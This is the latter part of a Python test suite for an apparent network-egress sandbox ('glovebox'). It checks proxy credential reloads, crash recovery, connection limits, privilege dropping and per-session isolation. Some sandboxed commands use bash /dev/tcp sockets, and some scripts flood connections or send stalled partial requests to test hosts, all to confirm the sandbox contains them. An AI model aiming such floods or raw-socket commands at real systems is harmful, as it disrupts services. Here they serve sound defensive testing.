        self.word_mode = 0o644 if "proxy_auth = [" in egress else 0o600
        if given.user == "user":
            os.chown(self.folder, USER_ID, USER_ID)
        self.write("word", word + "\n", self.word_mode)
        self.write("ca.pem", authorities, 0o644)
        self.write("key", plane.environment_key + "\n")
        file = self.write("glovebox.toml", f"""
[control_plane]
base_url = "{plane.base_url}"
environment_id = "{plane.environment}"
environment_key = "file:{self.folder}/key"
[egress]
{egress.replace("FOLDER", self.folder)}
[policy]
file = "{box.policy}"
[state]
dir = "{self.state}"
""")
        with open(self.log_path, "wb") as log:
            self.process = subprocess.Popen([*box.program, "run", "--config", file],
                                            env={"PATH": os.environ["PATH"]}, stdin=subprocess.DEVNULL,
                                            stdout=log, stderr=log, start_new_session=True)

    def write(self, name, text, mode=0o600):
        path = pathlib.Path(self.folder) / name
        new = path.with_suffix(".new")
        new.write_text(text)
        new.chmod(mode)
        if self.given.user == "user":
            os.chown(new, USER_ID, USER_ID)
        new.rename(path)
        return str(path)


def worker_goes_through(given, egress):
    """The proxy refuses the first word; another one helps."""
    plane = Plane("--ttl", "20")
    worker = None
    try:
        worker = Configured(given, plane, given.box(policy(raw("www.a.test", 7001))), egress)
        wait_for("the start", lambda: "serving" in worker.log() or worker.process.poll() is not None)
        assert worker.process.poll() is None, worker.log()
        session = plane.session()
        ask = lambda: plane.result(session, plane.bash(  # noqa: E731
            session, "exec 3<>/dev/tcp/www.a.test/7001; read -r line <&3; echo got $line"), 60)[0]
        assert "got 220" not in ask(), worker.log()
        wait_for("it is read again", lambda: "a secret is as it was secret=proxy_auth role=egress" in worker.log())
        worker.write("word", PROXY_USER + "\n", worker.word_mode)
        worker.process.send_signal(signal.SIGHUP)
        wait_for("other credentials", lambda: "other credentials for the proxy" in worker.log())
        assert "got 220 world ready" in ask(), worker.log()
        assert given.world.proxied() == [("www.a.test:7001", 407), ("www.a.test:7001", 200)]
        assert worker.log().count("the proxy refuses the credentials of egress (407)") == 1, worker.log()
        assert "pass-phrase" not in worker.log(), worker.log()
        given.nothing_left(tcp(PROXY, PROXY_PORT))
    finally:
        if worker:
            worker.end()
        plane.end()


@case
def a_word_that_the_proxy_refuses_is_read_again(given):
    worker_goes_through(given, f'proxy = "{PROXY}:{PROXY_PORT}"\nproxy_auth = "file:FOLDER/word"')
    assert not given.world.names.asked


@case
def other_authorities_are_for_the_proxy_too(given):
    stranger = subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                               "-nodes", "-subj", "/CN=stranger", "-keyout", "/dev/null"],
                              check=True, capture_output=True, text=True).stdout
    plane = Plane("--ttl", "20")
    worker = None
    try:
        box = given.box(policy(raw("www.a.test", 7001)))
        worker = Configured(given, plane, box, f"""proxy = "https://proxy.test:{PROXY_TLS_PORT}"
proxy_auth = "file:FOLDER/word"
ca_file = "FOLDER/ca.pem\"""", PROXY_USER, stranger)
        wait_for("the start", lambda: "serving" in worker.log())
        session = plane.session()
        ask = lambda: plane.result(session, plane.bash(  # noqa: E731
            session, "exec 3<>/dev/tcp/www.a.test/7001; read -r line <&3; echo got $line"), 60)[0]
        assert "got 220" not in ask(), worker.log()
        worker.write("ca.pem", given.world.authority.read_text(), 0o644)
        worker.process.send_signal(signal.SIGHUP)
        wait_for("other authorities", lambda: "egress: other authorities" in worker.log())
        assert "got 220 world ready" in ask(), worker.log()
        assert given.world.proxied() == [("www.a.test:7001", 200)], given.world.proxied()
    finally:
        if worker:
            worker.end()
        plane.end()


@case
def a_program_prints_the_word_and_name_servers_are_egress_own(given):
    os.truncate("/etc/resolv.conf", 0)
    try:
        worker_goes_through(given, f"""proxy = "http://proxy.test:{PROXY_PORT}"
proxy_auth = ["/usr/bin/cat", "FOLDER/word"]
resolvers = ["127.0.0.1:53"]""")
    finally:
        pathlib.Path("/etc/resolv.conf").write_text(egress_world.RESOLV_CONF)
    assert set(given.world.names.asked) == {"proxy.test"}


# --- what dies, floods and stalls

def role_of(process, name):
    """The process of a role of this `glovebox exec`."""
    for entry in pathlib.Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if (entry / "cmdline").read_text().startswith(f"glovebox: {name}") and \
                    f"PPid:\t{process.pid}\n" in (entry / "status").read_text():
                return int(entry.name)
    return None


@case("F56")
def kill_9_of_egress_in_the_middle(given):
    """What flows ends at once, nothing gets out while it is gone, and then all is as before."""
    box = given.box(policy(raw("a.test", 7002) + raw("a.test", 80)))
    process = box.start("/bin/bash", "-c", """
exec 3<>/dev/tcp/a.test/7002; head -c 1000000 <&3 | wc -c; echo flows > /workspace/flows
cat <&3 > /dev/null; echo "ended $?"
until curl -sS -m 5 -o /dev/null http://a.test/again; do sleep 0.05; done; echo again""")
    wait_for("a flow", lambda: (box.work / "flows").exists())
    os.kill(role_of(process, "egress"), signal.SIGKILL)
    out, err = process.communicate(timeout=30)
    assert "ended" in out and out.endswith("again\n"), (out, err)
    assert "a role died and is started again role=egress" in err, err
    box.out, box.err = out, err
    box.opened(host="a.test", port=80)
    box.verified()


@case()
def a_role_that_is_gone_for_good_is_no_way_out(given):
    box = given.box(policy(raw("a.test", 80)))
    process = box.start("/bin/bash", "-c", """
touch /workspace/up; until [ -e /workspace/go ]; do sleep 0.02; done
for i in 1 2 3 4 5 6; do curl -sS -m 3 -o /dev/null http://a.test/$i && echo through; done""")
    wait_for("the box", lambda: (box.work / "up").exists())
    os.kill(role_of(process, "egress"), signal.SIGSTOP)
    (box.work / "go").touch()
    time.sleep(1)  # it stands; what connects waits, and gives up by itself
    out, err = process.communicate(timeout=90)
    assert "through" not in out, out
    given.nothing_left()


@case("F43")
def a_flood_of_connections_is_bounded(given):
    box = given.box(policy(raw("a.test", 7000), more="limits = { files = 4096 }"))
    box.run("/usr/bin/python3", "-c", """
import socket, time
held, refused = [], 0
for i in range(1600):
    s = socket.socket(); s.settimeout(9)
    try:
        s.connect(("a.test" if i == 0 else held[0].getpeername()[0], 7000))
        held.append(s)
    except OSError:
        refused += 1
time.sleep(1)
alive = 0
for s in held:
    try:
        s.sendall(b"x")
        alive += s.recv(1) == b"x"
    except OSError:
        pass
print(alive, "alive")
for s in held: s.close()
time.sleep(1)
s = socket.create_connection(("a.test", 7000), 9); s.sendall(b"y"); print("then", s.recv(1))
""", seconds=120).expect(out="then b'y'")
    alive = int(box.out.split()[0])
    assert 500 <= alive <= 1024, box.out
    refused = [record for record in box.records("net.deny")
               if "connections" in record["why"]]
    assert refused and sum(record.get("n", 1) for record in refused) >= 1600 - alive - 1, refused


@case("F41")
def who_says_nothing_is_sent_away(given):
    box = given.box().run("/usr/bin/python3", "-c", """
import socket, time
began = time.monotonic()
slow = socket.create_connection(("a.test", 443)); slow.sendall(b"\\x16\\x03\\x01\\x02\\x00\\x01")
head = socket.create_connection(("a.test", 80)); head.sendall(b"GET /open/ HTTP/1.1\\r\\nHost: a.t")
for s in (slow, head):
    s.settimeout(30)
    try:
        while s.recv(999): pass
    except ConnectionError: pass
print("after", round(time.monotonic() - began))
""").expect()
    assert 8 <= int(box.out.split()[1]) <= 15, box.out
    box.denied(host="a.test", l7="sni", why="no whole ClientHello in time")
    given.nothing_left()


@case()
def what_the_role_kept(given):
    box = given.box()
    process = box.start("/bin/bash", "-c", "touch up; until [ -e go ]; do sleep 0.02; done")
    wait_for("the box", lambda: (box.work / "up").exists())
    role = role_of(process, "egress")
    lines = pathlib.Path(f"/proc/{role}/status").read_text().splitlines()
    seen = {key: value.split() for key, _, value in (line.partition(":") for line in lines)}
    files = [os.readlink(entry) for entry in pathlib.Path(f"/proc/{role}/fd").iterdir()]
    name = pathlib.Path(f"/proc/{role}/cmdline").read_bytes()
    environment = pathlib.Path(f"/proc/{role}/environ").read_bytes()
    (box.work / "go").touch()
    process.communicate(timeout=30)
    assert int(seen["CapEff"][0], 16) == 0 and int(seen["CapPrm"][0], 16) == 0, seen
    assert seen["NoNewPrivs"] == ["1"] and seen["Seccomp"] == ["2"], seen
    if given.user == "root":
        assert seen["Uid"] == ["1900065605"] * 4 and seen["Groups"] == [] and int(seen["CapBnd"][0], 16) == 0, seen
    assert name == b"glovebox: egress\0" and environment == b"", (name, environment)
    # Sockets, and where it tells the operator what happens; no file.
    other = {file for file in files if not file.startswith(("socket:", "pipe:", "anon_inode:"))}
    assert other <= {"/dev/null"}, files


@case("F56")
def another_policy_is_for_what_is_opened_then(given):
    """A session keeps the rules that it was opened with, the next one has the new ones."""
    plane, folder, worker = Plane("--ttl", "20"), fresh_folder(), None
    try:
        box = given.box(policy(raw("a.test", 80)))
        if given.user == "user":
            os.chown(folder, USER_ID, USER_ID)
        worker = Worker(plane, state=folder, policy=str(box.policy), program=box.program)
        wait_for("the start", lambda: "serving" in worker.log())
        say = lambda session, command: plane.result(session, plane.bash(session, command), 60)  # noqa: E731
        ask = "curl -sS -m 5 -o /dev/null -w '%{http_code}' http://a.test/"
        first = plane.session()
        assert say(first, ask)[0].startswith("200")
        box.policy.write_text(policy(raw("b.test", 80)))
        os.kill(worker.process.pid, signal.SIGHUP)
        wait_for("the new policy", lambda: "new sessions get another policy" in worker.log())
        assert say(first, ask)[0].startswith("200")
        second = plane.session()
        assert not say(second, ask)[0].startswith("200")
        assert say(second, ask.replace("a.test", "b.test"))[0].startswith("200")
    finally:
        if worker:
            worker.end()
        plane.end()


# --- afterwards

@case()
def what_was_refused_becomes_a_rule_that_gives_it(given):
    ask = "for what in x y; do curl -sS -m 9 http://a.test/closed/$what; done; true"
    box = given.box().shell("curl -sS -m 9 http://a.test/closed/x; curl -sS -m 9 http://b.test/; true")
    assert not given.world.lines("asked")
    given.nothing_left()

    def policy_command(*words):
        return subprocess.run([PROGRAM, "policy", *words, "--log", str(box.state / "audit")],
                              capture_output=True, text=True)

    told = policy_command("suggest")
    assert told.returncode == 0 and "GET /closed/x" in told.stdout, told
    assert json.loads(policy_command("suggest", "--json", "--profile", "net").stdout)[0]["kind"] == "rule"
    assert "egress refused nothing" in policy_command("suggest", "--since", "2999-01-01T00:00:00Z").stdout
    log = (box.state / "audit" / "log.jsonl").read_text().splitlines()
    index = next(i for i, line in enumerate(log) if json.loads(line)["k"] == "net.deny" and "meth" in json.loads(line))
    why = policy_command("why", "--record", str(index))
    assert why.returncode == 1 and "request GET http://a.test/closed/x, as tool bash" in why.stdout, why
    assert "does not allow this method and path" in why.stdout, why

    given.box(policy(RULES + told.stdout)).shell(ask).expect()
    asked = " ".join(given.world.lines("asked"))
    assert "/closed/x" in asked and "/closed/y" not in asked, asked


# --- sessions

@case("F47")
def calls_of_a_session_share_a_network_and_sessions_do_not(given):
    plane = Plane("--ttl", "20")
    folder = fresh_folder()
    worker = None
    try:
        box = given.box(policy(background="keep"))
        if given.user == "user":
            os.chown(folder, USER_ID, USER_ID)
        worker = Worker(plane, state=folder, policy=str(box.policy), program=box.program)
        wait_for("the start", lambda: "serving" in worker.log())
        first, second = plane.session(), plane.session()
        say = lambda session, command: plane.result(session, plane.bash(session, command), 60)  # noqa: E731
        assert say(first, "exec 3<>/dev/tcp/www.a.test/7001; read -r line <&3; echo $line")[0].startswith("220")
        address = say(first, "getent ahostsv4 www.a.test | awk 'NR==1 {print $1}'")[0].strip()
        assert address.startswith("198.18."), address
        say(first, "(while sleep 0.2; do curl -sS -m 3 -o /dev/null http://a.test/open/later; done) > /dev/null 2>&1 &")
        # Names of one session mean nothing in another.
        text, _ = say(second, f"exec 3<>/dev/tcp/{address}/7001; read -r line <&3; echo got $line")
        assert "got 220" not in text, text
        wait_for("a connection in the background",
                 lambda: any("/open/later" in line for line in given.world.lines("asked")))
    finally:
        if worker:
            worker.end()
        plane.end()


def main():
    user, words = sys.argv[1], sys.argv[2:]
    egress_world.enter()
    world, failed = World(), False
    for name, function in CASES:
        if words and not any(word in name for word in words):
            continue
        given = Given(world, user)
        world.forget()
        try:
            function(given)
            print("ok", name, flush=True)
        except Exception:
            failed = True
            print(traceback.format_exc().rstrip())
            print("not ok", name, flush=True)
        finally:
            given.end()
    world.end()
    remove_folders()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
